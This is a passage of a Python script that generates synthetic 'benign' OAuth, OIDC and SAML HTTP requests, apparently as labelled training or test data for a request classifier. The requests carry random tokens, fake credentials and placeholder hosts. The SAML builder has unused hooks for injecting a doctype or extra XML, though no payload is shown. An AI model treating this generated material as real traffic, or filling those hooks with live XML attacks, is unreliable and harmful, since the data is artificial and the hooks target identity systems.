                        ("login_hint", person(rng)["email"]), ("ui_locales", rng.choice(["fr-CA fr en", "de", "ja-JP", "pt-BR en"])),
                        ("acr_values", rng.choice(["urn:mace:incommon:iap:silver", "phr phrh", "http://schemas.openid.net/pape/policies/2007/06/multi-factor"])),
                        ("max_age", str(rng.choice([0, 300, 3600]))), ("response_mode", rng.choice(["query", "fragment", "form_post"])),
                        ("access_type", "offline"), ("include_granted_scopes", "true"), ("domain_hint", "contoso.com"),
                        ("claims", jdump(rng.choice(CLAIMS_PARAMS))), ("display", "popup"),
                        ("audience", "https://api.example.com/v2/"), ("resource", "https://api.example.com/"),
                        ("authorization_details", jdump([{"type": "payment_initiation", "actions": ["initiate", "status"], "locations": ["https://bank.example.com/payments"],
                                                           "instructedAmount": {"currency": "EUR", "amount": "123.50"}, "creditorName": "Merchant A & Co.",
                                                           "creditorAccount": {"iban": "DE02100100109307118603"}, "remittanceInformationUnstructured": "Ref Number Merchant"}]))],
                       rng.randint(0, 3))
    return ps + extra, verifier


def benign_oauth_authorize(c, rng):
    for i in range(48):
        app = rng.choice(APP_HOSTS)
        idp = rng.choice(IDP_HOSTS)
        k = i % 8
        if k <= 3:
            ps, _ = authorize_params(rng, app)
            path = rng.choice(["/authorize", "/oauth2/authorize", "/oauth2/v1/authorize", "/protocol/openid-connect/auth",
                               "/realms/acme/protocol/openid-connect/auth", "/oauth2/default/v1/authorize", "/connect/authorize",
                               "/common/oauth2/v2.0/authorize", "/o/oauth2/v2/auth", "/login/oauth/authorize"])
            c.add("benign", "oauth-authorize", "GET", path + "?" + query(ps, plus=rng.random() < 0.5), idp,
                  [referer(f"https://{app}/login")])
        elif k == 4:
            # authorization response on the client's callback
            ps = [("code", rng.choice([rtok(rng, 43, B64URL_ALPHA), ruuid(rng) + "." + ruuid(rng) + "." + ruuid(rng), "4/0Ad" + rtok(rng, 68, B64URL_ALPHA)])),
                  ("state", rtok(rng, 32, B64URL_ALPHA))]
            if rng.random() < 0.5:
                ps.append(("session_state", ruuid(rng)))
            if rng.random() < 0.4:
                ps += [("iss", f"https://{idp}/realms/acme"), ("scope", rng.choice(SCOPES)), ("authuser", "0"), ("prompt", "consent")]
            c.add("benign", "oauth-authorize", "GET", "/auth/callback?" + query(ps), app, [referer(f"https://{idp}/")])
        elif k == 5:
            p = person(rng)
            body = form([("code", rtok(rng, 43, B64URL_ALPHA)), ("id_token", id_token(rng, f"https://{idp}/", rtok(rng, 20), p, rtok(rng, 24))),
                         ("state", rtok(rng, 32, B64URL_ALPHA)), ("session_state", rhex(rng, 64) + "." + rtok(rng, 20))])
            c.add("benign", "oauth-authorize", "POST", "/signin-oidc", app, [origin(idp), referer(f"https://{idp}/")], body, FORM)
        elif k == 6:
            desc = rng.choice(["The user denied the request", "AADSTS65004: User declined to consent to access the app.\r\nTrace ID: " + ruuid(rng) + "\r\nCorrelation ID: " + ruuid(rng) + "\r\nTimestamp: 2026-12-04 21:17:09Z",
                               "User cancelled the login -- 'Back' button pressed", "Invalid redirect_uri: must be a registered URL (see https://docs.example.com/oauth#redirects)",
                               "Consent required for scope(s): openid, profile & email", "The resource owner or authorization server denied the request."])
            ps = [("error", rng.choice(["access_denied", "consent_required", "login_required", "invalid_request", "interaction_required"])),
                  ("error_description", desc), ("state", rtok(rng, 32, B64URL_ALPHA))]
            if rng.random() < 0.5:
                ps.append(("error_uri", "https://docs.example.com/errors?code=" + rng.choice(["AADSTS65004", "E0000004"])))
            c.add("benign", "oauth-authorize", "GET", "/auth/callback?" + query(ps, plus=rng.random() < 0.5), app)
        else:
            # consent screen submit
            scopes = rng.choice(SCOPES).split()
            body = form([("consent_challenge", rhex(rng, 32)), ("remember", "true"), ("submit", "Allow access")] + [("grant_scope", s) for s in scopes])
            c.add("benign", "oauth-authorize", "POST", "/consent", idp, [origin(idp)], body, FORM)


def client_auth(rng, idp):
    r = rng.random()
    cid = rtok(rng, 24)
    if r < 0.35:
        return [["Authorization", "Basic " + b64(f"{q(cid)}:{q(gen_password(rng, 40))}".encode())]], []
    if r < 0.6:
        return [], [("client_id", cid), ("client_secret", rtok(rng, 40, string.ascii_letters + string.digits + "-_.~"))]
    if r < 0.85:
        now = 1764900000 + rng.randint(0, 10**6)
        ass = jwt(rng, {"iss": cid, "sub": cid, "aud": f"https://{idp}/oauth2/token", "jti": ruuid(rng), "exp": now + 60, "iat": now}, alg=rng.choice(["RS256", "PS256", "ES256"]), kid=rtok(rng, 16))
        return [], [("client_id", cid), ("client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"), ("client_assertion", ass)]
    return [], [("client_id", cid)]


def benign_oauth_token(c, rng):
    for i in range(52):
        idp = rng.choice(IDP_HOSTS)
        app = rng.choice(APP_HOSTS)
        path = rng.choice(["/oauth/token", "/oauth2/token", "/oauth2/v1/token", "/realms/acme/protocol/openid-connect/token", "/connect/token", "/token"])
        hs, auth = client_auth(rng, idp)
        k = i % 13
        ua = rng.choice(SERVER_UAS)
        if k in (0, 1):
            verifier, _ = pkce(rng)
            ps = [("grant_type", "authorization_code"), ("code", rtok(rng, 43, B64URL_ALPHA)), ("redirect_uri", callback_url(rng, app)), ("code_verifier", verifier)] + auth
        elif k in (2, 3):
            ps = [("grant_type", "refresh_token"), ("refresh_token", rng.choice([rtok(rng, 64, B64URL_ALPHA), jwt(rng, {"exp": 1766000000, "typ": "Refresh", "sid": ruuid(rng)}, alg="HS512"), "1//0g" + rtok(rng, 100, B64URL_ALPHA), "v1." + rtok(rng, 130, B64URL_ALPHA)]))] + auth
            if rng.random() < 0.4:
                ps.append(("scope", rng.choice(SCOPES)))
        elif k == 4:
            ps = [("grant_type", "client_credentials"), ("scope", rng.choice(["api://4f1c2d8e-0000-4b7a-9c3e-1a2b3c4d5e6f/.default", "read:orders write:orders", "https://graph.microsoft.com/.default", "urn:acme:scim:provision"]))] + auth
            if rng.random() < 0.4:
                ps.append(("audience", "https://api.example.com/v2/"))
        elif k == 5:
            # device authorization request and the device-code grant
            if rng.random() < 0.5:
                c.add("benign", "oauth-token", "POST", "/oauth/device/code", idp, [], form([("client_id", rtok(rng, 32)), ("scope", "openid profile offline_access"), ("audience", "https://api.example.com/")]), FORM, ua=ua)
                continue
            ps = [("grant_type", "urn:ietf:params:oauth:grant-type:device_code"), ("device_code", rtok(rng, 43, B64URL_ALPHA)), ("client_id", rtok(rng, 32))]
        elif k == 6:
            uc = rtok(rng, 4, "BCDFGHJKLMNPQRSTVWXZ") + "-" + rtok(rng, 4, "BCDFGHJKLMNPQRSTVWXZ")
            c.add("benign", "oauth-token", "GET", f"/activate?user_code={uc}", idp)
            continue
        elif k == 7:
            p = person(rng)
            ps = [("grant_type", "urn:ietf:params:oauth:grant-type:token-exchange"),
                  ("subject_token", access_token(rng, f"https://{idp}/", scopes="openid orders:read")),
                  ("subject_token_type", "urn:ietf:params:oauth:token-type:access_token"),
                  ("requested_token_type", rng.choice(["urn:ietf:params:oauth:token-type:access_token", "urn:ietf:params:oauth:token-type:jwt"])),
                  ("audience", rng.choice(["urn:acme:billing-service", "https://billing.internal.example.net"]))] + auth
            if rng.random() < 0.5:
                ps += [("actor_token", id_token(rng, f"https://{idp}/", "gateway", p)), ("actor_token_type", "urn:ietf:params:oauth:token-type:id_token")]
        elif k == 8:
            now = 1764900000 + rng.randint(0, 10**6)
            ps = [("grant_type", "urn:ietf:params:oauth:grant-type:jwt-bearer"),
                  ("assertion", jwt(rng, {"iss": f"svc-reports@proj-{rng.randint(100, 999)}.iam.gserviceaccount.com", "scope": "https://www.googleapis.com/auth/admin.directory.user.readonly",
                                          "aud": "https://oauth2.googleapis.com/token", "exp": now + 3600, "iat": now, "sub": "admin@example.com"}, kid=rhex(rng, 40)))]
        elif k == 9:
            p = person(rng)
            ps = [("grant_type", "password"), ("username", p["email"]), ("password", any_password(rng)), ("scope", "openid offline_access")] + auth
        elif k == 10:
            path = rng.choice(["/oauth2/introspect", "/oauth/introspect", "/realms/acme/protocol/openid-connect/token/introspect", "/oauth2/v1/introspect"])
            ps = [("token", access_token(rng, f"https://{idp}/")), ("token_type_hint", "access_token")] + auth
        elif k == 11:
            path = rng.choice(["/oauth2/revoke", "/oauth/revoke", "/realms/acme/protocol/openid-connect/revoke", "/o/oauth2/revoke"])
            ps = [("token", rtok(rng, 64, B64URL_ALPHA)), ("token_type_hint", "refresh_token")] + auth
        else:
            # RFC 9126 pushed authorization request, then the authorize call that uses it
            aps, _ = authorize_params(rng, app)
            if rng.random() < 0.5:
                body = form(aps + auth)
                c.add("benign", "oauth-token", "POST", rng.choice(["/par", "/oauth2/par", "/realms/acme/protocol/openid-connect/ext/par/request", "/as/par"]), idp, hs, body, FORM, ua=ua)
            else:
                ru = "urn:ietf:params:oauth:request_uri:" + rtok(rng, 32, B64URL_ALPHA)
                c.add("benign", "oauth-token", "GET", f"/authorize?client_id={rtok(rng, 24)}&request_uri={q(ru)}", idp)
            continue
        c.add("benign", "oauth-token", "POST", path, idp, hs, form(ps), FORM, ua=ua, browser=False)
    # dynamic client registration (RFC 7591) by legitimate clients
    for i in range(6):
        app = rng.choice(APP_HOSTS)
        body = {"client_name": rng.choice(["Acme Portal (staging)", "Jane's Test App", "Reports & Dashboards", "CI/CD Bot", "Mobile App – iOS"]),
                "redirect_uris": [f"https://{app}/callback", f"https://{app}/callback?popup=1&lang=en"],
                "post_logout_redirect_uris": [f"https://{app}/signed-out"],
                "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
                "token_endpoint_auth_method": rng.choice(["private_key_jwt", "client_secret_basic", "none"]),
                "jwks_uri": f"https://{app}/.well-known/jwks.json", "logo_uri": f"https://{app}/static/logo.png",
                "policy_uri": f"https://{app}/privacy", "tos_uri": f"https://{app}/terms?v=3", "contacts": [person(rng)["email"]],
                "scope": "openid profile email offline_access"}
        if i % 2:
            body["software_statement"] = jwt(rng, {"software_id": ruuid(rng), "software_version": "4.2.0", "iss": "https://directory.example.org", "iat": 1764900000}, alg="PS256")
        c.add("benign", "oauth-token", "POST", rng.choice(["/register", "/oauth2/register", "/realms/acme/clients-registrations/openid-connect", "/connect/register"]),
              rng.choice(IDP_HOSTS), [["Authorization", "Bearer " + rtok(rng, 40, B64URL_ALPHA)]], jdump(body), JSON, browser=False)


def benign_oidc(c, rng):
    for i in range(44):
        idp = rng.choice(IDP_HOSTS)
        app = rng.choice(APP_HOSTS)
        k = i % 11
        p = person(rng)
        if k == 0:
            c.add("benign", "oidc", "GET", rng.choice(["/.well-known/openid-configuration", "/realms/acme/.well-known/openid-configuration",
                                                       "/oauth2/default/.well-known/oauth-authorization-server", "/v2.0/.well-known/openid-configuration?appid=" + ruuid(rng),
                                                       "/.well-known/oauth-authorization-server/tenant-a"]), idp, browser=False)
        elif k == 1:
            c.add("benign", "oidc", "GET", rng.choice(["/.well-known/jwks.json", "/oauth2/v3/certs", "/realms/acme/protocol/openid-connect/certs",
                                                       "/discovery/v2.0/keys", "/oauth2/v1/keys?client_id=" + rtok(rng, 20)]), idp, browser=False,
                  headers=[["If-None-Match", f'W/"{rhex(rng, 16)}"']] if rng.random() < 0.4 else [])
        elif k == 2:
            c.add("benign", "oidc", "GET", "/.well-known/webfinger?" + query([("resource", "acct:" + p["email"]), ("rel", "http://openid.net/specs/connect/1.0/issuer")]), idp, browser=False)
        elif k == 3:
            c.add("benign", "oidc", "GET", rng.choice(["/userinfo", "/oauth2/v1/userinfo", "/realms/acme/protocol/openid-connect/userinfo", "/oidc/me"]), idp,
                  [["Authorization", "Bearer " + access_token(rng, f"https://{idp}/")]], browser=False)
        elif k in (4, 5):
            ps = [("id_token_hint", id_token(rng, f"https://{idp}/", rtok(rng, 20), p)),
                  ("post_logout_redirect_uri", rng.choice([f"https://{app}/", f"https://{app}/signed-out?reason=user&return=" + q(rng.choice(APP_PATHS)), f"https://{app}/logout/callback"])),
                  ("state", rtok(rng, 22, B64URL_ALPHA))]
            if rng.random() < 0.5:
                ps.append(("client_id", rtok(rng, 20)))
            if rng.random() < 0.3:
                ps.append(("ui_locales", "fr"))
            c.add("benign", "oidc", "GET", rng.choice(["/logout", "/oidc/logout", "/realms/acme/protocol/openid-connect/logout", "/connect/endsession", "/oauth2/v1/logout"]) + "?" + query(ps), idp)
        elif k == 6:
            c.add("benign", "oidc", "GET", f"/frontchannel_logout?iss={q('https://' + idp + '/')}&sid={ruuid(rng)}", app, browser=True)
        elif k == 7:
            lt = jwt(rng, {"iss": f"https://{idp}/", "sub": ruuid(rng), "aud": rtok(rng, 20), "iat": 1764900000, "jti": ruuid(rng), "sid": ruuid(rng),
                           "events": {"http://schemas.openid.net/event/backchannel-logout": {}}}, typ="logout+jwt")
            c.add("benign", "oidc", "POST", "/backchannel-logout", app, [], form([("logout_token", lt)]), FORM, ua=rng.choice(SERVER_UAS), browser=False)
        elif k == 8:
            ps, _ = authorize_params(rng, app, with_pkce=False)
            req = jwt(rng, dict([(a, b) for a, b in ps] + [("iss", rtok(rng, 20)), ("aud", f"https://{idp}/"), ("exp", 1765000000), ("nbf", 1764990000)]), alg="PS256", typ="oauth-authz-req+jwt")
            c.add("benign", "oidc", "GET", f"/authorize?client_id={rtok(rng, 20)}&response_type=code&scope=openid&request={req}", idp)
        elif k == 9:
            cl = rng.choice(CLAIMS_PARAMS)
            ps = [("response_type", "code"), ("client_id", rtok(rng, 20)), ("redirect_uri", callback_url(rng, app)), ("scope", "openid"),
                  ("state", rtok(rng, 16)), ("claims", jdump(cl, compact=rng.random() < 0.5))]
            c.add("benign", "oidc", "GET", "/authorize?" + query(ps, plus=rng.random() < 0.5), idp)
        else:
            c.add("benign", "oidc", "GET", f"/realms/acme/protocol/openid-connect/login-status-iframe.html/init?client_id=portal&origin={q('https://' + app)}", idp,
                  [["Cookie", f"KEYCLOAK_SESSION=acme/{ruuid(rng)}/{ruuid(rng)}; KEYCLOAK_SESSION_LEGACY=acme/{ruuid(rng)}/{ruuid(rng)}"]])


# ---------------------------------------------------------------------------
# SAML
# ---------------------------------------------------------------------------

def saml_id(rng):
    return rng.choice(["_" + rhex(rng, 40), "id" + rtok(rng, 20, string.digits), "pfx" + ruuid(rng), "_" + ruuid(rng)])


def saml_time(rng, base=None):
    base = base if base is not None else rng.randint(0, 86000)
    h, m, s = base // 3600, (base // 60) % 60, base % 60
    return f"2026-12-0{rng.randint(1, 5)}T{h:02d}:{m:02d}:{s:02d}Z"


def signature_xml(rng, ref, wrap=True):
    cert = b64(der_cert(rng))
    if wrap:
        cert = "\n".join(cert[i:i + 76] for i in range(0, len(cert), 76))
    return (f'<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>'
            f'<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
            f'<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>'
            f'<ds:Reference URI="#{ref}"><ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>'
            f'<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"><ec:InclusiveNamespaces xmlns:ec="http://www.w3.org/2001/10/xml-exc-c14n#" PrefixList="xs"/></ds:Transform></ds:Transforms>'
            f'<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>{b64(rng.randbytes(32))}</ds:DigestValue></ds:Reference></ds:SignedInfo>'
            f'<ds:SignatureValue>{b64(rng.randbytes(256))}</ds:SignatureValue>'
            f'<ds:KeyInfo><ds:X509Data><ds:X509Certificate>{cert}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></ds:Signature>')


SAML_ATTRS = [
    ("urn:oid:0.9.2342.19200300.100.1.3", "mail"), ("urn:oid:2.5.4.42", "givenName"), ("urn:oid:2.5.4.4", "sn"),
    ("urn:oid:2.16.840.1.113730.3.1.241", "displayName"), ("urn:oid:1.3.6.1.4.1.5923.1.1.1.9", "eduPersonScopedAffiliation"),
    ("http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress", None), ("http://schemas.microsoft.com/ws/2008/06/identity/claims/groups", None),
    ("http://schemas.microsoft.com/identity/claims/tenantid", None), ("memberOf", None), ("department", None),
]


def saml_response_xml(rng, p, idp, acs, audience, nameid=None, inject_doctype=None, extra_before_issuer="", attr_extra=None, inresp=None):
    rid, aid = saml_id(rng), saml_id(rng)
    t = rng.randint(3600, 80000)
    issuer = f"https://{idp}/idp/shibboleth" if rng.random() < 0.4 else f"http://{idp}/adfs/services/trust"
    nameid = nameid if nameid is not None else rng.choice([p["email"], "AAdzZWNyZXQx" + rtok(rng, 40, string.ascii_letters + string.digits + "+/"), ruuid(rng)])
    fmt = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress" if "@" in nameid else "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"
    attrs = ""
    for oid, friendly in rng.sample(SAML_ATTRS, rng.randint(3, 6)):
        if "mail" in oid or oid.endswith("0.9.2342.19200300.100.1.3") or "emailaddress" in oid:
            vals = [p["email"]]
        elif oid.endswith("2.5.4.42"):
            vals = [p["first"]]
        elif oid.endswith("2.5.4.4"):
            vals = [p["last"]]
        elif "displayName" in (friendly or ""):
            vals = [p["name"]]
        elif "Affiliation" in (friendly or ""):
            vals = ["member@uni.example.edu", "staff@uni.example.edu"]
        elif "groups" in oid or oid == "memberOf":
            vals = rng.sample(["CN=Finance & Ops,OU=Groups,DC=corp,DC=contoso,DC=com", "CN=VPN-Users,OU=Groups,DC=corp,DC=contoso,DC=com",
                               ruuid(rng), "app-admins", "R&D (EU)"], 2)
        elif "tenant" in oid:
            vals = [ruuid(rng)]
        else:
            vals = [rng.choice(["Research & Development", "Sales / EMEA", "People Ops", "O'Neill Lab"])]
        fa = f' FriendlyName="{friendly}"' if friendly else ""
        nf = "urn:oasis:names:tc:SAML:2.0:attrname-format:uri" if oid.startswith(("urn:", "http")) else "urn:oasis:names:tc:SAML:2.0:attrname-format:basic"
        attrs += f'<saml:Attribute Name="{oid}"{fa} NameFormat="{nf}">' + "".join(
            f'<saml:AttributeValue xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="xs:string">{xml_escape(v)}</saml:AttributeValue>' for v in vals) + "</saml:Attribute>"
    if attr_extra:
        attrs += attr_extra
    inresp = inresp or saml_id(rng)
    assertion = (f'<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" xmlns:xs="http://www.w3.org/2001/XMLSchema" ID="{aid}" IssueInstant="{saml_time(rng, t)}" Version="2.0">'
                 f'<saml:Issuer>{issuer}</saml:Issuer>' + signature_xml(rng, aid, wrap=rng.random() < 0.5) +
                 f'<saml:Subject><saml:NameID Format="{fmt}" NameQualifier="{issuer}" SPNameQualifier="{audience}">{nameid}</saml:NameID>'
                 f'<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData InResponseTo="{inresp}" NotOnOrAfter="{saml_time(rng, t + 300)}" Recipient="{acs}"/></saml:SubjectConfirmation></saml:Subject>'
                 f'<saml:Conditions NotBefore="{saml_time(rng, t - 5)}" NotOnOrAfter="{saml_time(rng, t + 3600)}"><saml:AudienceRestriction><saml:Audience>{audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions>'
                 f'<saml:AuthnStatement AuthnInstant="{saml_time(rng, t - 2)}" SessionIndex="{saml_id(rng)}"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:{rng.choice(["PasswordProtectedTransport", "X509", "Kerberos", "TimeSyncToken"])}</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>'
                 f'<saml:AttributeStatement>{attrs}</saml:AttributeStatement></saml:Assertion>')
    xml = ""
    if rng.random() < 0.5 or inject_doctype:
        xml += '<?xml version="1.0" encoding="UTF-8"?>'
    if inject_doctype:
        xml += inject_doctype
    xml += (f'<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="{rid}" Version="2.0" '
            f'IssueInstant="{saml_time(rng, t)}" Destination="{acs}" InResponseTo="{inresp}">{extra_before_issuer}<saml:Issuer>{issuer}</saml:Issuer>'
            + (signature_xml(rng, rid) if rng.random() < 0.3 else "") +
            '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>' + assertion + '</samlp:Response>')
    return xml


def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;").replace("'", "&apos;")


def authn_request_xml(rng, sp, idp, acs, extra="", doctype=""):
    return ((('<?xml version="1.0" encoding="UTF-8"?>' + doctype) if doctype or rng.random() < 0.3 else "") +
            f'<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" '
            f'ID="{saml_id(rng)}" Version="2.0" IssueInstant="{saml_time(rng)}" Destination="https://{idp}/idp/profile/SAML2/Redirect/SSO" '
            f'ProtocolBinding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" AssertionConsumerServiceURL="{acs}">'
            f'<saml:Issuer>{sp}</saml:Issuer>{extra}<samlp:NameIDPolicy Format="urn:oasis:names:tc:SAML:1.1:nameid-format:{rng.choice(["emailAddress", "unspecified"])}" AllowCreate="true"/>'
            + ('<samlp:RequestedAuthnContext Comparison="exact"><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef></samlp:RequestedAuthnContext>' if rng.random() < 0.5 else "")
            + '</samlp:AuthnRequest>')


def logout_request_xml(rng, sp, idp, nameid):
    return (f'<samlp:LogoutRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="{saml_id(rng)}" Version="2.0" '
            f'IssueInstant="{saml_time(rng)}" Destination="https://{idp}/idp/profile/SAML2/Redirect/SLO"><saml:Issuer>{sp}</saml:Issuer>'
            f'<saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">{nameid}</saml:NameID><samlp:SessionIndex>{saml_id(rng)}</samlp:SessionIndex></samlp:LogoutRequest>')


def relay_state(rng, app):
    return rng.choice([f"https://{app}" + rng.choice(APP_PATHS), rng.choice(APP_PATHS), "ss:mem:" + rhex(rng, 64), rtok(rng, 32, B64URL_ALPHA),
                       f"https://{app}/sso/saml?target=" + q(f"https://{app}/reports?year=2026&q=a+b")])


def sp_of(app):
    return rng_choice_static([f"https://{app}/saml/metadata", f"https://{app}/shibboleth", f"urn:amazon:webservices", f"https://{app}/sp"], app)


def rng_choice_static(opts, key):
    return opts[sum(map(ord, key)) % len(opts)]


def benign_saml(c, rng):
    # HTTP-POST binding: IdP -> SP assertion consumer service
    for i in range(34):
        p = person(rng)
        app = rng.choice(APP_HOSTS)
        idp = rng.choice(["idp.uni.example.edu", "sts.contoso.com", "acme.okta.com", "keycloak.example.net", "login.example.com"])
        acs = rng.choice([f"https://{app}/saml/acs", f"https://{app}/Shibboleth.sso/SAML2/POST", f"https://{app}/saml2/acs/", f"https://{app}/auth/saml/callback",
                          "https://signin.aws.amazon.com/saml", f"https://{app}/sso/saml2/consume?tenant=eu-1"])
        k = i % 6
        if k <= 3:
            xml = saml_response_xml(rng, p, idp, acs, sp_of(app))
            ps = [("SAMLResponse", b64(xml.encode()))]
            if rng.random() < 0.7:
                ps.append(("RelayState", relay_state(rng, app)))
            path = urllib.parse.urlsplit(acs)
            c.add("benign", "saml-post", "POST", path.path + ("?" + path.query if path.query else ""), path.netloc,
                  [origin(idp), referer(f"https://{idp}/"), ["Cache-Control", "max-age=0"]], form(ps), FORM)
        elif k == 4:
            # SP -> IdP AuthnRequest via POST binding, and ADFS WS-Federation wresult (raw XML, url-encoded)
            if rng.random() < 0.5:
                xml = authn_request_xml(rng, sp_of(app), idp, acs, extra=signature_xml(rng, "x"))
                c.add("benign", "saml-post", "POST", "/idp/profile/SAML2/POST/SSO", idp, [origin(app)], form([("SAMLRequest", b64(xml.encode())), ("RelayState", relay_state(rng, app))]), FORM)
            else:
                aid = saml_id(rng)
                rstr = (f'<t:RequestSecurityTokenResponse xmlns:t="http://schemas.xmlsoap.org/ws/2005/02/trust"><t:Lifetime><wsu:Created xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">{saml_time(rng)}</wsu:Created></t:Lifetime>'
                        f'<wsp:AppliesTo xmlns:wsp="http://schemas.xmlsoap.org/ws/2004/09/policy"><wsa:EndpointReference xmlns:wsa="http://www.w3.org/2005/08/addressing"><wsa:Address>https://{app}/</wsa:Address></wsa:EndpointReference></wsp:AppliesTo>'
                        f'<t:RequestedSecurityToken><saml:Assertion MajorVersion="1" MinorVersion="1" AssertionID="{aid}" Issuer="http://sts.contoso.com/adfs/services/trust" IssueInstant="{saml_time(rng)}" xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion">'
                        f'<saml:AttributeStatement><saml:Subject><saml:NameIdentifier>{p["email"]}</saml:NameIdentifier></saml:Subject><saml:Attribute AttributeName="name" AttributeNamespace="http://schemas.xmlsoap.org/ws/2005/05/identity/claims"><saml:AttributeValue>{xml_escape(p["name"])}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>'
                        + signature_xml(rng, aid) + '</saml:Assertion></t:RequestedSecurityToken><t:TokenType>urn:oasis:names:tc:SAML:1.0:assertion</t:TokenType></t:RequestSecurityTokenResponse>')
                c.add("benign", "saml-post", "POST", "/", app, [origin("sts.contoso.com")],
                      form([("wa", "wsignin1.0"), ("wresult", rstr), ("wctx", "rm=0&id=passive&ru=" + q(rng.choice(APP_PATHS)))]), FORM)
        else:
            # an administrator uploading IdP metadata
            ed = (f'<?xml version="1.0" encoding="UTF-8"?>\n<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://{idp}/idp/shibboleth" validUntil="2027-12-01T00:00:00Z">\n'
                  f'  <md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">\n'
                  f'    <md:KeyDescriptor use="signing"><ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:X509Data><ds:X509Certificate>{b64(der_cert(rng))}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>\n'
                  f'    <md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress</md:NameIDFormat>\n'
                  f'    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="https://{idp}/idp/profile/SAML2/Redirect/SSO"/>\n'
                  f'    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://{idp}/idp/profile/SAML2/POST/SSO"/>\n'
                  f'  </md:IDPSSODescriptor>\n  <md:Organization><md:OrganizationName xml:lang="en">{xml_escape(rng.choice(COMPANIES))}</md:OrganizationName><md:OrganizationDisplayName xml:lang="en">{xml_escape(rng.choice(COMPANIES))}</md:OrganizationDisplayName><md:OrganizationURL xml:lang="en">https://{idp}/</md:OrganizationURL></md:Organization>\n'
                  f'  <md:ContactPerson contactType="technical"><md:GivenName>{xml_escape(p["first"])}</md:GivenName><md:SurName>{xml_escape(p["last"])}</md:SurName><md:EmailAddress>mailto:{p["email"]}</md:EmailAddress></md:ContactPerson>\n</md:EntityDescriptor>\n')
            c.add("benign", "saml-post", "POST", f"/admin/sso/saml/connections/{ruuid(rng)}/metadata", app,
                  [["Authorization", "Bearer " + access_token(rng, "https://login.example.com/")]], ed, "application/samlmetadata+xml" if rng.random() < 0.5 else "text/xml")
    # HTTP-Redirect binding: deflate + base64 + url-encode
    for i in range(26):
        p = person(rng)
        app = rng.choice(APP_HOSTS)
        idp = rng.choice(["idp.uni.example.edu", "sts.contoso.com", "acme.okta.com", "keycloak.example.net"])
        acs = f"https://{app}/saml/acs"
        if i % 4 == 3:
            xml = logout_request_xml(rng, sp_of(app), idp, p["email"])
            name, path = "SAMLRequest", "/idp/profile/SAML2/Redirect/SLO"
        elif i % 4 == 2:
            xml = saml_response_xml(rng, p, idp, acs, sp_of(app))
            xml = xml[:xml.index("<samlp:Status>")].replace("samlp:Response", "samlp:LogoutResponse", 1) + '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:LogoutResponse>'
            name, path = "SAMLResponse", "/saml/slo"
        else:
            xml = authn_request_xml(rng, sp_of(app), idp, acs)
            name, path = "SAMLRequest", rng.choice(["/idp/profile/SAML2/Redirect/SSO", "/adfs/ls/", "/app/acme_portal_1/exk" + rtok(rng, 16) + "/sso/saml", "/realms/acme/protocol/saml"])
        ps = [(name, b64(deflate(xml.encode())))]
        if rng.random() < 0.7:
            ps.append(("RelayState", relay_state(rng, app)))
        if rng.random() < 0.6:
            ps += [("SigAlg", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"), ("Signature", b64(rng.randbytes(256)))]
        host = app if name == "SAMLResponse" else idp
        c.add("benign", "saml-redirect", "GET", path + "?" + query(ps), host, [referer(f"https://{app}/")])


# ---------------------------------------------------------------------------
# WebAuthn / passkeys
# ---------------------------------------------------------------------------

def client_data(rng, typ, origin_, challenge=None):
    cd = {"type": typ, "challenge": challenge or b64url(rng.randbytes(32)), "origin": origin_, "crossOrigin": False}
    if rng.random() < 0.3:
